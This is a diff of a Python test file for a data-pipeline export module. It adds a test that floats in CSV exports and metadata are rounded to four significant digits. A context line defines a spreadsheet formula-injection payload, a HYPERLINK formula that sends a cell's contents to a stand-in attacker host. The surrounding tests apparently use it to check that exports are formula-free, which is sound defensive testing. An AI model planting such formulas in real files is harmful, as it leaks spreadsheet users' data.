@@ -14,6 +14,7 @@ import pytest
 
 from interlink_pipeline.core.publish import exports, report
 from interlink_pipeline.core.publish.report import TOP_OPPORTUNITIES
+from interlink_pipeline.defs.tables import readable
 from interlink_pipeline_tests.helpers import LIGHT, chromium_path, register_lightchiropractic, run_site
 
 INJECTED = '=HYPERLINK("http://attacker.example/?leak="&A1,"Back Pain")'
@@ -139,6 +140,30 @@ def test_exports_open_with_headers_fitted_columns_and_no_formulas(planned_site):
     assert numbers and all(len(repr(value)) <= 8 for value in numbers), max(
         numbers, key=lambda v: len(repr(v))
     )
+
+
+def test_people_read_four_significant_digits_and_the_warehouse_keeps_the_rest(tmp_path):
+    frame = pl.DataFrame(
+        {
+            "probability": [0.30000000000000004, 0.123456789],
+            "pagerank": [1.23456789e-5, 2 / 3],
+            "score": pl.Series([0.0931, 0.5], dtype=pl.Float32),
+        }
+    )
+    printed = pl.read_csv(exports.write_csv(frame, tmp_path / "plan.csv"))
+    assert printed.rows() == [(0.3, 1.235e-05, 0.0931), (0.1235, 0.6667, 0.5)]
+    metadata = readable(
+        {
+            "share": 0.30000000000000004,
+            "recall": dg.MetadataValue.float(2 / 3),
+            "seconds_by_step": dg.MetadataValue.json({"plan": 1.23456, "steps": [1 / 3]}),
+            "pages": 12345,
+            "path": dg.MetadataValue.path("/tmp/x"),
+        }
+    )
+    assert metadata["share"] == 0.3 and metadata["recall"].value == 0.6667 and metadata["pages"] == 12345
+    assert metadata["seconds_by_step"].data == {"plan": 1.235, "steps": [0.3333]}
+    assert metadata["path"].value == "/tmp/x"
 
 
 def test_exports_rewrite_only_the_files_whose_rows_changed(tmp_path):
